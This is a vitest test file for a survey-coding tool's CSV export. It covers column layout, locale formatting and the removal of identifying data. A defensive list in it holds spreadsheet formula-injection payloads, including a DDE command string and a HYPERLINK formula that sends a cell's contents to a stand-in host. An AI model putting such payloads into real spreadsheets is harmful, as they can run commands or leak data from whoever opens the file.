import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { run } from "../../src/analyze.js";
import { loadCodebook, loadLanguages } from "../../src/codebook/load.js";
import { guarded, unguarded } from "../../src/coding/worksheet.js";
import { type SurveyOptions, survey } from "../../src/ingest/survey.js";
import { csvHeader } from "../../src/report/answers/csv.js";
import { AnswerTable, type TableForm } from "../../src/report/answers/table.js";
import { chunks } from "../ingest/support.js";

const CSV = `id,team,name,score,answer
a1,north,J. Q.,1,"Facebook is for my friends, and a waste of time"
a2,south,K. R.,2,
a3,south,L. S.,3,n/a
a4,north,M. T.,4,xqzv wrdl
a5,"so""uth",N. U.,"5,0","Share knowledge
and learn; find an expert"
`;
interface CsvForm extends TableForm {
  locale: "en" | "nl";
}
const PLAIN: CsvForm = { locale: "en", text: false, keepColumns: false };
const codebook = await loadCodebook("internal-social-media");
const FRAMES = codebook.dimensions[0].categories.map(({ id }) => id);

/** The CSV of the coded answers of a survey, coded by the lexicon. */
async function coded(
  csv: string,
  form: Partial<CsvForm> = {},
  options: Partial<SurveyOptions> = {},
  slabSize?: number,
) {
  const bytes = Buffer.from(csv);
  const how = { file: "survey.csv", text: ["answer"], group: ["team"], ...options };
  const { plan } = survey(bytes, how, true);
  const written = { ...PLAIN, ...form };
  let text = csvHeader(new AnswerTable(plan, codebook, written).names(), written.locale);
  await run(
    [{ file: "survey.csv", plan, bytes: chunks(bytes) }],
    {
      codebook,
      languages: loadLanguages(),
      method: "lexicon",
      models: [],
      minConfidence: 0,
      forms: [{ kind: "csv", ...written }],
    },
    {
      threads: 1,
      slabSize,
      onAnswers: async ([rows]) => {
        text += Buffer.from(rows);
      },
    },
  );
  return text;
}

const read = (text: string, delimiter = ",") =>
  parse(text, { bom: true, columns: true, delimiter }) as Record<string, string>[];

describe("the CSV of coded answers", () => {
  it("has a row for each answer, below columns in their order", async () => {
    const text = await coded(CSV);
    expect(text.split("\r\n")[0]).toBe(
      `\ufeffid,question,team,status,frame,${FRAMES.join(",")},stance,confidence,stanceConfidence`,
    );
    expect(read(text).map(({ id, question, team, status }) => [id, question, team, status])).toEqual([
      ["a1", "answer", "north", "coded"],
      ["a2", "answer", "south", "blank"],
      ["a3", "answer", "south", "coded"],
      ["a4", "answer", "north", "uncertain"],
      ["a5", "answer", 'so"uth', "coded"],
    ]);
  });

  it("has 0 or 1 for each frame where there is a code, and nothing where there is none", async () => {
    for (const row of read(await coded(CSV))) {
      const flags = FRAMES.map((frame) => row[frame]);
      if (row.status !== "coded") expect([row.frame, ...new Set(flags)]).toEqual(["", ""]);
      else {
        expect(row[row.frame]).toBe("1");
        expect(flags.every((flag) => flag === "0" || flag === "1")).toBe(true);
      }
    }
  });

  it("is the same table in Dutch, with semicolons and a decimal comma", async () => {
    const english = read(await coded(CSV, { keepColumns: true }));
    const dutch = read(await coded(CSV, { keepColumns: true, locale: "nl" }), ";");
    expect(dutch.map((row) => row.confidence)).not.toEqual(english.map((row) => row.confidence));
    const dots = ({ confidence, stanceConfidence, ...rest }: Record<string, string>) => ({
      ...rest,
      confidence: confidence.replace(",", "."),
      stanceConfidence: stanceConfidence.replace(",", "."),
    });
    expect(dutch.map(dots)).toEqual(english.map(dots));
  });

  it("does not depend on how the file was cut", async () => {
    const whole = await coded(CSV, { keepColumns: true });
    for (const size of [1, 60, 150]) expect(await coded(CSV, { keepColumns: true }, {}, size)).toBe(whole);
  });

  it("puts each question in a row of its own, in wide and in long data", async () => {
    const wide = `id,before,after\n1,Share knowledge,A waste of time\n2,Find an expert,\n`;
    expect(
      read(await coded(wide, {}, { text: ["before", "after"], group: undefined })).map((row) => [
        row.id,
        row.question,
        row.status,
      ]),
    ).toEqual([
      ["1", "before", "coded"],
      ["1", "after", "coded"],
      ["2", "before", "coded"],
      ["2", "after", "blank"],
    ]);
    const long = `id,question,answer\n1,before,Share knowledge\n1,after,A waste of time\n2,before,Find an expert\n2,after,Gossip with friends\n`;
    const rows = read(await coded(long, {}, { group: undefined }));
    expect(rows.map(({ id, question }) => [id, question])).toEqual([
      ["1", "before"],
      ["1", "after"],
      ["2", "before"],
      ["2", "after"],
    ]);
  });
});

describe("with the columns of the input", () => {
  it("every cell stands beside the code, but for what identifies people", async () => {
    const text = await coded(CSV, { keepColumns: true });
    expect(text.split("\r\n")[0]).toMatch(/,stanceConfidence,id \(2\),team \(2\),score,answer$/);
    const original = parse(CSV, { columns: true }) as Record<string, string>[];
    for (const [i, row] of read(text).entries()) {
      expect(row).toMatchObject({ score: original[i].score, answer: original[i].answer });
      expect(row["team (2)"]).toBe(original[i].team);
      expect(Object.values(row)).not.toContain(original[i].name);
    }
  });

  it("what identifies people is there when it is asked for by name", async () => {
    const text = await coded(CSV, { keepColumns: true }, { id: "name" });
    expect(read(text).map(({ id, name }) => [id, name])[0]).toEqual(["J. Q.", "J. Q."]);
  });
});

/** What spreadsheets take for a formula, or may do so behind what they strip. */
const HOSTILE = [
  "=1+1",
  "+31 6 12",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "'=1+1",
  "''@x",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20x",
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  "-1",
];

describe("no cell is a formula", () => {
  it.each(HOSTILE)("%j is a text behind an apostrophe, and read back as it was", (cell) => {
    expect(guarded(cell)).toBe(`'${cell}`);
    expect(unguarded(guarded(cell))).toBe(cell);
  });

  it.each(HOSTILE.filter((cell) => !/[\0\ufeff]/.test(cell)))(
    "%j as id, group, column name and answer",
    async (cell) => {
      const quoted = `"${cell.replaceAll('"', '""')}"`;
      const csv = `id,team,${quoted},answer\n${quoted},${quoted},${quoted},${quoted}\nb,c,d,"Share knowledge, and learn"\n`;
      const form = { keepColumns: true, text: true };
      const lines = parse(await coded(csv, form, { id: "id" }), { bom: true }) as string[][];
      expect(lines).toHaveLength(3);
      for (const line of lines)
        for (const found of line) expect(found).not.toMatch(/^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
      expect(lines[1].map(unguarded)).toContain(cell);
      expect(new Set(lines.map((line) => line.length)).size).toBe(1);
    },
  );
});
